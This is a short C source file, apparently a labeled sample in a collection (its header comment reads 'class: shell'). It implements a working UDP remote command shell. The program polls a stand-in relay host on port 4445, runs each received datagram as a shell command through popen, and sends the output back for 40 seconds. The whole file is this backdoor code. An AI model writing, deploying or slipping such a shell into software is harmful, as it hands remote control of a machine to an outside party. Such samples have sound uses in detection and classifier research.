// class: shell; possible: low medium; style: C, datagrams to popen
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

int main(void)
{
    struct hostent *h = gethostbyname("relay.ops.test");
    if (!h)
        return 1;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4445)};
    memcpy(&to.sin_addr, h->h_addr_list[0], 4);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct timeval wait = {.tv_sec = 3};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    connect(fd, (struct sockaddr *)&to, sizeof to);
    char order[1500], out[1400];
    for (time_t end = time(NULL) + 40; time(NULL) < end;) {
        send(fd, "?", 1, 0);
        ssize_t n = recv(fd, order, sizeof order - 1, 0);
        if (n <= 0)
            continue;
        order[n] = 0;
        FILE *p = popen(order, "r");
        if (!p)
            continue;
        size_t m = fread(out, 1, sizeof out, p);
        pclose(p);
        send(fd, out, m ? m : 1, 0);
    }
    return 0;
}
